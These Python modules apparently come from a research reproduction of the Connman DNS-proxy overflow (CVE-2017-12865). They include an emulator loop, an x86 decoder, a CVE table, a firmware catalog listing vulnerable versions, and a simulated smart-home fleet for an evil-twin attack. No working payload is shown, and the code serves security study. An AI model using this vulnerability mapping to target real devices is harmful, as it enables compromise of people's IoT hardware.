        if kind == "mov_rm_r":
            return Instruction(address, 2, "mov", (rm_name, reg_name), raw)
        if kind == "mov_r_rm":
            return Instruction(address, 2, "mov", (reg_name, rm_name), raw)
        return Instruction(address, 2, kind, (rm_name, reg_name), raw)

    # -- group F7: NOT/NEG (register-direct) --------------------------------------
    if opcode == 0xF7:
        raw = need(2)
        if raw is None:
            return bad("truncated group-3 instruction")
        mod, group, rm = raw[1] >> 6, (raw[1] >> 3) & 7, raw[1] & 7
        if mod != 3 or group not in (2, 3):
            return bad("unsupported group-3 form")
        return Instruction(address, 2, "not" if group == 2 else "neg",
                           (X86_REGISTERS[rm],), raw)

    # -- group C1: SHL/SHR imm8 (register-direct) ----------------------------------
    if opcode == 0xC1:
        raw = need(3)
        if raw is None:
            return bad("truncated shift instruction")
        mod, group, rm = raw[1] >> 6, (raw[1] >> 3) & 7, raw[1] & 7
        if mod != 3 or group not in (4, 5):
            return bad("unsupported shift form")
        return Instruction(address, 3, "shl" if group == 4 else "shr",
                           (X86_REGISTERS[rm], raw[2] & 0x1F), raw)

    # -- group FF: indirect call/jmp through a register ------------------------------
    if opcode == 0xFF:
        raw = need(2)
        if raw is None:
            return bad("truncated group-5 instruction")
        mod, group, rm = raw[1] >> 6, (raw[1] >> 3) & 7, raw[1] & 7
        if mod != 3 or group not in (2, 4):
            return bad("unsupported group-5 form")
        # Register operand (a str) distinguishes these from direct call/jmp,
        # whose operand is the resolved int target.
        mnemonic = "call" if group == 2 else "jmp"
        return Instruction(address, 2, mnemonic, (X86_REGISTERS[rm],), raw)

    if opcode == 0x83:
        raw = need(3)
        if raw is None:
            return bad("truncated group-1 imm8")
        mod, group, rm = raw[1] >> 6, (raw[1] >> 3) & 7, raw[1] & 7
        if mod != 3 or group not in (0, 5, 7):
            return bad("unsupported group-1 form")
        mnemonic = {0: "add", 5: "sub", 7: "cmp"}[group]
        return Instruction(
            address, 3, mnemonic,
            (X86_REGISTERS[rm], _sign8(raw[2]) & 0xFFFFFFFF), raw,
        )

    # -- relative control flow ----------------------------------------------------
    if opcode in (0xE8, 0xE9):
        raw = need(5)
        if raw is None:
            return bad("truncated rel32 branch")
        rel = _sign32(struct.unpack("<I", raw[1:])[0])
        target = (address + 5 + rel) & 0xFFFFFFFF
        return Instruction(address, 5, "call" if opcode == 0xE8 else "jmp", (target,), raw)
    if opcode in (0xEB, 0x74, 0x75):
        raw = need(2)
        if raw is None:
            return bad("truncated rel8 branch")
        target = (address + 2 + _sign8(raw[1])) & 0xFFFFFFFF
        mnemonic = {0xEB: "jmp", 0x74: "jz", 0x75: "jnz"}[opcode]
        return Instruction(address, 2, mnemonic, (target,), raw)

    return bad(f"unknown opcode {opcode:#04x}")


def linear_sweep(data: bytes, base: int):
    """Yield instructions across ``data``; bad bytes become 1-byte ``(bad)``."""
    offset = 0
    while offset < len(data):
        insn = decode(data, base + offset, offset, strict=False)
        yield insn
        offset += insn.size
