"""Shared emulation loop for both architectures.

The loop has a single rule the whole reproduction depends on: *native
functions are address-triggered*.  When the program counter lands on a
registered libc/PLT entry, the host handler runs; anywhere else, bytes are
fetched (X-permission-checked — the W^X enforcement point) and executed.
All outcomes, including exploit failures, are returned as
:class:`ExecutionResult` rather than raised, so experiment code can tabulate
them like the paper does.
"""

from __future__ import annotations

from dataclasses import dataclass
from time import perf_counter
from typing import TYPE_CHECKING, Optional

from ..mem import MemoryFault
from .events import CpuError, EmulationBudgetExceeded, _EmulationStop
from .process import Process

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from ..obs.postmortem import CrashReport

DEFAULT_STEP_BUDGET = 200_000


@dataclass
class ExecutionResult:
    """How one emulation run ended."""

    reason: str
    steps: int
    detail: str = ""
    fault: Optional[BaseException] = None
    #: Structured crash forensics, captured at fault time when the process
    #: is observed (``process.observer`` set).  ``None`` on clean exits and
    #: on unobserved runs.
    postmortem: Optional["CrashReport"] = None

    @property
    def spawned(self) -> bool:
        """True when control flow reached an ``exec*`` image replacement."""
        return self.reason == "execve"

    @property
    def crashed(self) -> bool:
        return self.reason == "fault"

    @property
    def signal(self) -> Optional[str]:
        return getattr(self.fault, "signal", None) if self.fault is not None else None

    def describe(self) -> str:
        text = f"{self.reason} after {self.steps} steps"
        if self.detail:
            text += f": {self.detail}"
        if self.signal:
            text += f" [{self.signal}]"
        return text


class Emulator:
    """Architecture-neutral run loop; subclasses implement :meth:`step`."""

    def __init__(self, process: Process):
        self.process = process
        #: Optional per-step wall-time histogram (an object with
        #: ``observe(value)``; values in microseconds).  Left unset on the
        #: normal path so observed traces stay deterministic — only the
        #: benchmark harness opts in.
        self.step_timer = None

    def step(self):  # pragma: no cover - abstract
        """Execute one instruction; returns the executed Instruction."""
        raise NotImplementedError

    def _peek_text(self, address: int) -> str:
        """Best-effort disassembly of the next instruction (tracing only)."""
        try:
            memory = self.process.memory
            if self.process.arch == "x86":
                from .x86.disasm import decode

                window = memory.read(
                    address, memory.contiguous_span(address, 5), check=False
                )
                return decode(window, address, strict=False).text()
            from .arm.disasm import decode

            window = memory.read(address, 4, check=False)
            return decode(window, address, strict=False).text()
        except Exception:
            return "(unreadable)"

    def run(self, max_steps: int = DEFAULT_STEP_BUDGET) -> ExecutionResult:
        """Execute until stop/fault/budget; observed runs get a ``cpu.run`` span.

        When the process carries an observer, the whole run nests under a
        ``cpu.run`` span (continuing whatever trace context the caller —
        network delivery, daemon parse — left open), and a faulting run
        captures a :class:`~repro.obs.postmortem.CrashReport` while the
        registers and memory map are still exactly as the fault left them.
        """
        observer = self.process.observer
        if observer is None:
            return self._run_loop(max_steps)
        tracer = observer.tracer
        span = tracer.start("cpu.run", arch=self.process.arch,
                            pc=f"{self.process.pc:#x}")
        try:
            result = self._run_loop(max_steps)
            span.attrs["outcome"] = result.reason
            span.attrs["steps"] = result.steps
            if result.crashed:
                span.attrs["signal"] = result.signal
                from ..obs.postmortem import capture_crash_report

                result.postmortem = capture_crash_report(
                    self.process,
                    signal=result.signal or "SIGSEGV",
                    reason=result.detail,
                    tracer=tracer,
                )
            return result
        finally:
            tracer.end(span)

    def _run_loop(self, max_steps: int = DEFAULT_STEP_BUDGET) -> ExecutionResult:
        process = self.process
        trace = getattr(process, "trace", None)
        cache = process.decode_cache
        blocks = process.block_cache
        cache_before = (cache.hits, cache.misses, cache.invalidations,
                        cache.epoch_flushes)
        blocks_before = (blocks.hits, blocks.misses, blocks.invalidations,
                         blocks.epoch_flushes, blocks.native_flushes)
        timer = self.step_timer
        profiler = getattr(process, "profiler", None)
        taint = getattr(process, "taint", None)
        if profiler is not None:
            # Run-scoped sampling phase: sample points become a pure
            # function of each run's completed-step count, so sweep
            # workers merge byte-identical to the sequential sweep.
            profiler.begin_run()
        # Block dispatch is outcome-identical but not *observation*-identical
        # at instruction granularity, so tracing and per-step timing force
        # the per-instruction path: traces and step histograms stay exact.
        # The profiler deliberately does NOT force the fallback — blocks
        # carry their mnemonic/address lines, so block dispatch sums into
        # the same per-opcode totals single-stepping would produce and
        # step_timer.count == summed profiler steps on the same workload.
        # Taint DOES force it: label propagation needs each instruction's
        # pre-step register file, which block dispatch never materializes.
        use_blocks = (blocks.enabled and trace is None and timer is None
                      and taint is None)
        steps = 0
        try:
            while steps < max_steps:
                native = process.native_at(process.pc)
                if native is not None:
                    pc = process.pc
                    if trace is not None:
                        trace.record(pc, "native", f"{native.name}(...)")
                    if timer is not None:
                        started = perf_counter()
                        native.invoke(process)
                        timer.observe((perf_counter() - started) * 1e6)
                    else:
                        native.invoke(process)
                    steps += 1
                    if profiler is not None:
                        profiler.record_native(process, native, pc)
                    continue
                if use_blocks:
                    builds_before = blocks.builds if profiler is not None else 0
                    block = blocks.fetch(self, process.pc)
                    if profiler is not None and block is not None \
                            and blocks.builds != builds_before:
                        profiler.record_build(block)
                    if (block is not None
                            and steps + block.length <= max_steps
                            and (profiler is None
                                 or profiler.admits_block(block.length))):
                        # A whole block fits in the remaining budget; one
                        # that doesn't falls through to single stepping so
                        # EmulationBudgetExceeded fires at exactly max_steps.
                        # Same rule for a profiler sample boundary: a block
                        # that would cross it is declined so the sample
                        # observes exact per-step architectural state.
                        try:
                            executed = block.execute(process)
                        except BaseException:
                            steps += block.executed
                            blocks.steps += block.executed
                            if profiler is not None:
                                profiler.record_block(process, block,
                                                      block.executed)
                            raise
                        steps += executed
                        blocks.steps += executed
                        if profiler is not None:
                            profiler.record_block(process, block, executed)
                        continue
                if trace is not None:
                    trace.record(process.pc, "insn", self._peek_text(process.pc))
                # Snapshot the register file the instruction will *read*
                # before stepping (outside the timed region): propagation
                # needs pre-step sp/base values to locate memory operands.
                prev_regs = (dict(process.registers.values)
                             if taint is not None else None)
                if timer is not None:
                    started = perf_counter()
                    insn = self.step()
                    timer.observe((perf_counter() - started) * 1e6)
                else:
                    insn = self.step()
                steps += 1
                if taint is not None:
                    taint.step(process, insn, prev_regs)
                if profiler is not None:
                    profiler.record_insn(process, insn)
            raise EmulationBudgetExceeded(max_steps)
        except _EmulationStop as stop:
            return ExecutionResult(stop.reason, steps, stop.detail)
        except (MemoryFault, CpuError) as fault:
            process.record_exit(code=139, signal=fault.signal)
            return ExecutionResult("fault", steps, str(fault), fault=fault)
        finally:
            observer = process.observer
            if profiler is not None:
                profiler.end_run(process)
            if observer is not None or profiler is not None:
                deltas = {
                    "decode_cache_hits": cache.hits - cache_before[0],
                    "decode_cache_misses": cache.misses - cache_before[1],
                    "decode_cache_invalidations":
                        cache.invalidations - cache_before[2],
                    "decode_cache_epoch_flushes":
                        cache.epoch_flushes - cache_before[3],
                    "block_cache_hits": blocks.hits - blocks_before[0],
                    "block_cache_misses": blocks.misses - blocks_before[1],
                    "block_cache_invalidations":
                        blocks.invalidations - blocks_before[2],
                    "block_cache_epoch_flushes":
                        blocks.epoch_flushes - blocks_before[3],
                    "block_cache_native_flushes":
                        blocks.native_flushes - blocks_before[4],
                }
                if profiler is not None:
                    profiler.record_cache(deltas)
                if observer is not None:
                    for name, delta in deltas.items():
                        observer.inc(name, delta)
                    for length in blocks.built_lengths:
                        observer.observe("block.length", length)
                    blocks.built_lengths.clear()


def make_emulator(process: Process) -> Emulator:
    """Instantiate the right backend for the process architecture."""
    if process.arch == "x86":
        from .x86.emu import X86Emulator

        return X86Emulator(process)
    from .arm.emu import ArmEmulator

    return ArmEmulator(process)
