"""CVE database covering the paper's target and its §V adaptation set."""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Tuple

from .images import FirmwareImage


@dataclass(frozen=True)
class CveRecord:
    cve_id: str
    component: str
    protocol: str
    vulnerability_class: str
    description: str
    #: Paper's effort estimate for retargeting the exploit code (§V).
    adaptation_effort: str  # "native" | "minimal" | "moderate"


CONNMAN_CVE = CveRecord(
    cve_id="CVE-2017-12865",
    component="connman",
    protocol="dns",
    vulnerability_class="stack-buffer-overflow",
    description="dnsproxy get_name expands a crafted DNS response past the "
                "1024-byte name buffer (DoS or RCE)",
    adaptation_effort="native",
)

#: §V: "our code can work out-of-the-box (with minimal modification)".
DNS_FAMILY = (
    CveRecord("CVE-2017-14493", "dnsmasq", "dns", "stack-buffer-overflow",
              "DHCPv6 relay / DNS handling overflow in dnsmasq", "minimal"),
    CveRecord("CVE-2018-9445", "systemd-resolved", "dns", "stack-buffer-overflow",
              "dns_packet_read_name overflow in systemd's resolver", "minimal"),
    CveRecord("CVE-2018-19278", "asterisk", "dns", "buffer-overflow",
              "DNS SRV/NAPTR handling overflow in Digium Asterisk", "minimal"),
)

#: §V: "with moderate modification ... protocol-based vulnerabilities".
PROTOCOL_FAMILY = (
    CveRecord("CVE-2019-8985", "router-httpd", "http", "stack-buffer-overflow",
              "HTTP request handling overflow in router firmware", "moderate"),
    CveRecord("CVE-2019-9125", "router-httpd", "http", "stack-buffer-overflow",
              "HTTP header parsing overflow in router firmware", "moderate"),
    CveRecord("CVE-2018-6692", "embedded-httpd", "http", "stack-buffer-overflow",
              "UPnP/HTTP overflow in embedded web server", "moderate"),
    CveRecord("CVE-2018-20410", "tcp-service", "tcp", "buffer-overflow",
              "crafted TCP packet overflow in device service", "moderate"),
)

ALL_CVES: Tuple[CveRecord, ...] = (CONNMAN_CVE,) + DNS_FAMILY + PROTOCOL_FAMILY


@dataclass(frozen=True)
class AuditFinding:
    image: FirmwareImage
    cve: CveRecord
    reason: str


def audit_firmware(image: FirmwareImage) -> List[AuditFinding]:
    """Match an image against the database (connman-version-driven here)."""
    findings: List[AuditFinding] = []
    if image.ships_vulnerable_connman:
        findings.append(
            AuditFinding(
                image=image,
                cve=CONNMAN_CVE,
                reason=f"ships connman {image.connman_version} (< 1.35)",
            )
        )
    return findings


def audit_fleet(images) -> List[AuditFinding]:
    findings: List[AuditFinding] = []
    for image in images:
        findings.extend(audit_firmware(image))
    return findings
