"""IoT device model: firmware + network presence + the Connman daemon.

An :class:`IoTDevice` is what the Pineapple experiment attacks: a host with
a wireless station (DHCP/auto-DNS, "the only network configuration set in
the Raspberry Pi ... is to utilize DHCP and automatic DNS server via DHCP",
§III-D), running Connman as its DNS proxy for local applications.
"""

from __future__ import annotations

import random
from typing import List, Optional

from ..connman import ConnmanDaemon, DaemonEvent
from ..connman.services import ServiceManager
from ..defenses import ProtectionProfile
from ..dns import make_query
from ..net import Host, RadioEnvironment, WirelessStation
from .images import FirmwareImage


class IoTDevice:
    """One consumer device built from a firmware image."""

    def __init__(
        self,
        name: str,
        firmware: FirmwareImage,
        known_ssids: Optional[List[str]] = None,
        profile: Optional[ProtectionProfile] = None,
        rng: Optional[random.Random] = None,
        main_conf=None,
    ):
        from ..connman.config import DEFAULT_MAIN_CONF

        self.name = name
        self.firmware = firmware
        self.main_conf = main_conf if main_conf is not None else DEFAULT_MAIN_CONF
        self.profile = profile if profile is not None else firmware.default_profile
        self.rng = rng or random.Random(hash(name) & 0xFFFF)
        self.host = Host(name)
        self.station = WirelessStation(self.host, known_ssids or [])
        #: Connman's connection-management half (repro.connman.services).
        self.services = ServiceManager(self.station)
        self.daemon = ConnmanDaemon(
            arch=firmware.arch,
            version=firmware.connman_version,
            profile=self.profile,
            rng=self.rng,
            name=f"connmand@{name}",
        )
        self._query_counter = 0

    # -- network behaviour -----------------------------------------------------

    def join_wifi(self, radio: RadioEnvironment):
        """Scan and (re)connect the preferred service (see §III-D).

        Runs the Connman service lifecycle: scan -> autoconnect ->
        association/configuration (DHCP) -> ready.  Returns the new
        association record when the device moved, None otherwise.
        """
        self.services.scan_wifi(radio)
        before = self.station.association
        service = self.services.autoconnect()
        if service is None or not service.connected:
            return None
        after = self.station.association
        return after if after is not before else None

    def lookup(self, qname: str) -> Optional[DaemonEvent]:
        """A local application resolves a name through Connman's DNS proxy.

        This is the complete attack path: local stub -> connman dnsproxy ->
        (the network's) configured DNS server -> parse_response.
        """
        if not self.daemon.alive:
            return None
        self._query_counter += 1
        query = make_query(self._query_counter, qname)
        upstream = self._upstream_transport()
        self.daemon.handle_client_query(query.encode(), upstream)
        return self.daemon.last_event

    def _upstream_transport(self):
        """DHCP-provided resolver first, then main.conf fallbacks."""
        if self.host.dns_server is not None:
            return self.host.dns_transport()
        fallbacks = self.main_conf.fallback_nameservers

        def transport(packet):
            for server in fallbacks:
                reply = self.host.send_udp(server, 53, packet)
                if reply is not None:
                    return reply
            return None

        return transport

    def phone_home(self) -> Optional[DaemonEvent]:
        """The periodic lookup every IoT device makes (update/telemetry)."""
        return self.lookup(f"telemetry.{self.firmware.os_name.lower().split()[0]}.example")

    # -- state ---------------------------------------------------------------------

    @property
    def compromised(self) -> bool:
        return self.daemon.compromised

    @property
    def online(self) -> bool:
        return self.host.network is not None and self.daemon.alive

    def status(self) -> str:
        ssid = self.station.association.ap.ssid if self.station.association else "(no wifi)"
        return f"{self.name} [{self.firmware.name}] wifi={ssid} — {self.daemon.status()}"


def raspberry_pi_3b(
    name: str = "raspberry-pi-3b",
    known_ssids: Optional[List[str]] = None,
    profile: Optional[ProtectionProfile] = None,
) -> IoTDevice:
    """The paper's ARMv7 target device, running Ubuntu Mate 16.04."""
    from .images import UBUNTU_MATE_PI

    return IoTDevice(name, UBUNTU_MATE_PI, known_ssids=known_ssids, profile=profile)
