"""Firmware catalog — the paper's survey of shipping images (§III).

"We found three major embedded operating systems that still contain
vulnerable versions of Connman: the Yocto project ... compiles
distributions with Connman 1.31; OpenELEC ... comes with Connman 1.34, the
last vulnerable version; Tizen OS ... utilizes a vulnerable version of
Connman up until version 4.0."  The controlled experiments themselves ran
Ubuntu 16.04 (x86) and Ubuntu Mate 16.04 on a Raspberry Pi 3B (ARMv7).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Tuple

from ..connman import ConnmanVersion
from ..defenses import ProtectionProfile


@dataclass(frozen=True)
class FirmwareImage:
    name: str
    os_name: str
    os_version: str
    arch: str
    connman_version: ConnmanVersion
    #: Protections the image ships with by default.
    default_profile: ProtectionProfile
    notes: str = ""

    @property
    def ships_vulnerable_connman(self) -> bool:
        return self.connman_version.is_vulnerable

    def describe(self) -> str:
        status = "VULNERABLE" if self.ships_vulnerable_connman else "patched"
        return (
            f"{self.name}: {self.os_name} {self.os_version} ({self.arch}), "
            f"connman {self.connman_version} [{status}]"
        )


def _v(text: str) -> ConnmanVersion:
    return ConnmanVersion.parse(text)


#: Mainline distro images from the paper's survey (all ARMv7 targets).
YOCTO = FirmwareImage(
    name="yocto-pyro",
    os_name="Yocto Project",
    os_version="2.3 (pyro)",
    arch="arm",
    connman_version=_v("1.31"),
    default_profile=ProtectionProfile(wx=True, aslr=True),
    notes="embedded OS development platform; compiles distributions with connman 1.31",
)

OPENELEC = FirmwareImage(
    name="openelec-8",
    os_name="OpenELEC",
    os_version="8.0",
    arch="arm",
    connman_version=_v("1.34"),
    default_profile=ProtectionProfile(wx=True, aslr=True),
    notes="media streaming OS; ships the last vulnerable connman release",
)

TIZEN_3 = FirmwareImage(
    name="tizen-3",
    os_name="Tizen OS",
    os_version="3.0",
    arch="arm",
    connman_version=_v("1.34"),
    default_profile=ProtectionProfile(wx=True, aslr=True),
    notes="bedrock for Samsung devices; vulnerable until Tizen 4.0",
)

TIZEN_4 = FirmwareImage(
    name="tizen-4",
    os_name="Tizen OS",
    os_version="4.0",
    arch="arm",
    connman_version=_v("1.35"),
    default_profile=ProtectionProfile(wx=True, aslr=True),
    notes="first Tizen release with the dnsproxy fix",
)

#: The controlled-experiment hosts.
UBUNTU_X86 = FirmwareImage(
    name="ubuntu-16.04-x86",
    os_name="Ubuntu",
    os_version="16.04 LTS",
    arch="x86",
    connman_version=_v("1.34"),
    default_profile=ProtectionProfile(wx=True, aslr=True),
    notes="32-bit VM used for the x86 PoCs; protections toggled per experiment",
)

UBUNTU_MATE_PI = FirmwareImage(
    name="ubuntu-mate-16.04-rpi",
    os_name="Ubuntu Mate",
    os_version="16.04 LTS",
    arch="arm",
    connman_version=_v("1.34"),
    default_profile=ProtectionProfile(wx=True, aslr=True),
    notes="Raspberry Pi 3 Model B v1.2 image used for the ARMv7 PoCs",
)

FIRMWARE_CATALOG: Tuple[FirmwareImage, ...] = (
    YOCTO, OPENELEC, TIZEN_3, TIZEN_4, UBUNTU_X86, UBUNTU_MATE_PI,
)


def catalog_by_name(name: str) -> FirmwareImage:
    for image in FIRMWARE_CATALOG:
        if image.name == name:
            return image
    raise KeyError(f"no firmware image named {name!r}")
