"""Firmware images, IoT device models, and the CVE audit database."""

from .cvedb import (
    ALL_CVES,
    AuditFinding,
    CONNMAN_CVE,
    CveRecord,
    DNS_FAMILY,
    PROTOCOL_FAMILY,
    audit_firmware,
    audit_fleet,
)
from .device import IoTDevice, raspberry_pi_3b
from .images import (
    FIRMWARE_CATALOG,
    FirmwareImage,
    OPENELEC,
    TIZEN_3,
    TIZEN_4,
    UBUNTU_MATE_PI,
    UBUNTU_X86,
    YOCTO,
    catalog_by_name,
)

__all__ = [
    "ALL_CVES",
    "audit_firmware",
    "audit_fleet",
    "AuditFinding",
    "catalog_by_name",
    "CONNMAN_CVE",
    "CveRecord",
    "DNS_FAMILY",
    "FIRMWARE_CATALOG",
    "FirmwareImage",
    "IoTDevice",
    "OPENELEC",
    "PROTOCOL_FAMILY",
    "raspberry_pi_3b",
    "TIZEN_3",
    "TIZEN_4",
    "UBUNTU_MATE_PI",
    "UBUNTU_X86",
    "YOCTO",
]
