"""A household fleet of consumer IoT devices (the paper's §I motivation).

"Connman ... is widely used in many IoT firmware such as Nest thermostats,
NAO robots, and most smart devices from Samsung such as smart watches and
smart TVs."  This module builds that household: a mixed fleet across
firmware versions and protection profiles, all joined to the same SSID —
the blast radius of one evil twin.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional

from ..defenses import NONE, WX, WX_ASLR, ProtectionProfile
from .device import IoTDevice
from .images import OPENELEC, TIZEN_3, TIZEN_4, UBUNTU_MATE_PI, YOCTO, FirmwareImage


@dataclass(frozen=True)
class FleetMember:
    """Blueprint for one device in the household."""

    name: str
    kind: str
    firmware: FirmwareImage
    profile: ProtectionProfile

    def build(self, ssid: str) -> IoTDevice:
        return IoTDevice(self.name, self.firmware, known_ssids=[ssid],
                         profile=self.profile)


#: The default household: the devices the paper's introduction names, with
#: a realistic spread of protections and one patched straggler.
DEFAULT_HOUSEHOLD = (
    FleetMember("living-room-tv", "smart TV (Tizen 3)", TIZEN_3, WX_ASLR),
    FleetMember("media-center", "streaming box (OpenELEC)", OPENELEC, WX),
    FleetMember("thermostat", "smart thermostat (Yocto)", YOCTO, WX_ASLR),
    FleetMember("nao-robot", "companion robot (Yocto)", YOCTO, NONE),
    FleetMember("diy-pi", "hobbyist Raspberry Pi", UBUNTU_MATE_PI, WX_ASLR),
    FleetMember("new-tv", "smart TV (Tizen 4, patched)", TIZEN_4, WX_ASLR),
)


def build_household(ssid: str,
                    members: Optional[List[FleetMember]] = None) -> List[IoTDevice]:
    """Instantiate every device, all trusting the same home SSID."""
    blueprint = DEFAULT_HOUSEHOLD if members is None else members
    return [member.build(ssid) for member in blueprint]


@dataclass
class FleetAttackOutcome:
    device: IoTDevice
    kind: str
    roamed: bool
    compromised: bool
    detail: str

    def row(self):
        return (
            self.device.name,
            self.kind,
            str(self.device.firmware.connman_version),
            self.device.profile.label(),
            self.roamed,
            "ROOT SHELL" if self.compromised else self.detail,
        )
