"""ANSI terminal dashboard over a campaign's telemetry.

``repro dash`` runs one observed scenario (a chaos point, the forced
CVE-2017-12865 crash, or a wire-to-verdict attack) with a
:class:`~repro.obs.timeseries.TimeSeriesStore` attached, then renders
what an operator's wallboard would show: sparkline activity series, the
SLO verdict table with breaches in red, and the top spans by time spent.
The renderer is a pure function of the collector — same seed, same
frame, byte for byte (colors included) — so ``--once --json`` doubles as
the CI smoke format.

Live mode replays the recorded timeline as frames: each frame truncates
the series at a later simulated moment and re-evaluates the windowed
SLOs read-only at that moment, which is exactly what a real-time board
would have shown while the campaign ran.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any, Dict, List, Optional, Sequence

if TYPE_CHECKING:  # pragma: no cover - typing only
    from .collector import Collector
    from .slo import SloReport

DASH_SCHEMA = "repro-dash/v1"

SPARK_CHARS = "▁▂▃▄▅▆▇█"

GREEN = "\x1b[32m"
RED = "\x1b[31m"
DIM = "\x1b[2m"
BOLD = "\x1b[1m"
RESET = "\x1b[0m"

#: Clear screen + home — the live-mode frame separator.
CLEAR = "\x1b[2J\x1b[H"


def sparkline(values: Sequence[float], width: int = 32) -> str:
    """Scale the last ``width`` values onto the eight spark glyphs."""
    tail = list(values)[-width:]
    if not tail:
        return ""
    top = max(tail)
    if top <= 0:
        return SPARK_CHARS[0] * len(tail)
    steps = len(SPARK_CHARS) - 1
    return "".join(
        SPARK_CHARS[min(steps, int(round(value / top * steps)))]
        for value in (max(0.0, v) for v in tail)
    )


def _series_activity(series, until: Optional[float]) -> List[float]:
    """Per-sample activity deltas (counter increases / new observations)."""
    points: List[float] = []
    previous = 0.0
    for time, value in zip(series.times, series.values):
        if until is not None and time > until:
            break
        current = float(value) if series.kind == "counter" else float(value["count"])
        points.append(current - previous)
        previous = current
    return points


def top_spans(collector: "Collector", limit: int = 5) -> List[Dict[str, Any]]:
    """Busiest span names by total recorded duration (from the registry)."""
    rows = []
    for name in sorted(collector.metrics._histograms):
        if not name.startswith("span.") or not name.endswith(".duration"):
            continue
        histogram = collector.metrics._histograms[name]
        if histogram.count == 0:
            continue
        rows.append({
            "name": name[len("span."):-len(".duration")],
            "count": histogram.count,
            "total_s": round(histogram.total, 6),
            "mean_s": round(histogram.mean, 6),
            "p95_s": histogram.percentile(0.95),
        })
    rows.sort(key=lambda row: (-row["total_s"], -row["count"], row["name"]))
    return rows[:limit]


def _paint(text: str, code: str, color: bool) -> str:
    return f"{code}{text}{RESET}" if color else text


def render_dashboard(collector: "Collector",
                     report: Optional["SloReport"] = None, *,
                     until: Optional[float] = None,
                     width: int = 78, color: bool = True) -> str:
    """One dashboard frame as a string (ANSI when ``color``)."""
    store = collector.series
    shown_clock = until if until is not None else collector.clock
    lines: List[str] = []
    title = f" campaign telemetry — t={shown_clock:.1f}s "
    lines.append(_paint(title.center(width, "─"), BOLD, color))
    lines.append(collector.summary())
    if store is not None and store.timeline:
        lines.append("")
        lines.append(_paint("series (activity per sample)", BOLD, color))
        for name in store.names():
            series = store.series[name]
            activity = _series_activity(series, until)
            if not activity:
                continue
            latest = series.at_or_before(until) if until is not None \
                else series.latest()
            last_text = (f"{latest}" if series.kind == "counter"
                         else f"count={latest['count']}" if latest else "-")
            spark = sparkline(activity)
            lines.append(f"  {name:<30} {spark:<32} last={last_text}")
    elif store is not None:
        lines.append(_paint("  (no series samples yet)", DIM, color))
    if report is not None:
        lines.append("")
        lines.append(_paint("SLOs", BOLD, color))
        for verdict in report.verdicts:
            marker = (_paint("✓ ok    ", GREEN, color) if verdict.ok
                      else _paint("✗ BREACH", RED, color))
            shown = ("-" if verdict.observed is None
                     else f"{verdict.observed:.4g}")
            note = f" [{verdict.note}]" if verdict.note else ""
            lines.append(f"  {marker} {verdict.rule.name:<18} "
                         f"{verdict.rule.expr():<40} observed={shown}{note}")
    spans = top_spans(collector)
    if spans:
        lines.append("")
        lines.append(_paint("top spans (by total duration)", BOLD, color))
        for row in spans:
            p95 = "-" if row["p95_s"] is None else f"{row['p95_s']:.3g}"
            lines.append(f"  {row['name']:<28} count={row['count']:<6} "
                         f"total={row['total_s']:<10.3f} p95={p95}")
    profiler = getattr(collector, "profiler", None)
    if profiler is not None and profiler.data.steps:
        data = profiler.data
        total = data.steps
        lines.append("")
        lines.append(_paint("hot opcodes (profiled guest steps)", BOLD, color))
        for name, count in data.opcode_table(5):
            lines.append(f"  {name:<28} {count:>8}  "
                         f"{100.0 * count / total:5.1f}%")
        blocks = data.block_table(3)
        if blocks:
            lines.append(_paint("hot blocks (dispatch economics)", BOLD, color))
            for row in blocks:
                lines.append(
                    f"  {row['entry']:#010x} len={row['length']:<3} "
                    f"dispatches={row['dispatches']:<6} "
                    f"steps={row['steps']:<8} builds={row['builds']}")
    taint = getattr(collector, "taint", None)
    if taint is not None:
        lines.append("")
        lines.append(_paint("taint provenance (wire bytes -> PC)", BOLD, color))
        live = taint.shadow.live_bytes if taint.shadow is not None else 0
        lines.append(f"  sources={len(taint.sources)} "
                     f"seeded={taint.seeded_bytes}B live={live}B "
                     f"pc_writes={len(taint.pc_events)}")
        if taint.pc_events:
            event = taint.pc_events[-1]
            where = (f" from [{event['address']:#010x}]"
                     if event["address"] is not None else "")
            lines.append(_paint(
                f"  PC <- {event['pc']:#010x} via {event['via']}{where}",
                RED, color))
    if collector.postmortems:
        lines.append("")
        lines.append(_paint(
            f"  {len(collector.postmortems)} crash postmortem(s) on file "
            "(repro postmortem)", RED, color))
    lines.append(_paint("─" * width, BOLD, color))
    return "\n".join(lines)


def build_dashboard_json(collector: "Collector",
                         report: Optional["SloReport"] = None, *,
                         scenario: Optional[str] = None) -> dict:
    """The ``--once --json`` machine payload (CI's view of the board)."""
    store = collector.series
    payload = {
        "schema": DASH_SCHEMA,
        "scenario": scenario,
        "clock": round(collector.clock, 6),
        "series": store.to_dict() if store is not None else None,
        "slos": report.to_dict() if report is not None else None,
        "breaches": [verdict.rule.name for verdict in report.breaches]
        if report is not None else [],
        "top_spans": top_spans(collector),
        "counters": collector.metrics.counters(),
        "postmortems": len(collector.postmortems),
    }
    profiler = getattr(collector, "profiler", None)
    if profiler is not None:
        payload["profile"] = profiler.to_dict()
    taint = getattr(collector, "taint", None)
    if taint is not None:
        payload["taint"] = taint.to_dict()
    return payload


def dashboard_json(collector: "Collector",
                   report: Optional["SloReport"] = None, *,
                   scenario: Optional[str] = None, indent: int = 2) -> str:
    return json.dumps(
        build_dashboard_json(collector, report, scenario=scenario),
        indent=indent)


def frame_times(collector: "Collector", frames: int) -> List[float]:
    """Replay moments: evenly spread over the recorded timeline."""
    store = collector.series
    if store is None or not store.timeline or frames <= 1:
        return [collector.clock]
    first, last = store.timeline[0], store.timeline[-1]
    if last <= first:
        return [last]
    span = last - first
    return [first + span * index / (frames - 1) for index in range(frames)]
