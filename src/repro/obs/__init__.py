"""Observability: event tracing, metrics, and capture export.

The layer the paper's diagnosis workflow needs (crash triage in §III,
Pineapple capture in §VI): a deterministic, simulated-clock
:class:`Collector` that the network fabric, fault engine, caches,
daemon, supervisor, and brute forcer all report into — plus a text
pcap format for the traffic log that round-trips through the sniffer.
"""

from .collector import Collector
from .events import EventBus, TraceEvent
from .metrics import Counter, Histogram, MetricsRegistry
from .pcap import (
    PcapFormatError,
    export_datagrams,
    export_pcap_text,
    parse_pcap_text,
    replay_network,
    sniff_capture,
)

__all__ = [
    "Collector",
    "Counter",
    "EventBus",
    "export_datagrams",
    "export_pcap_text",
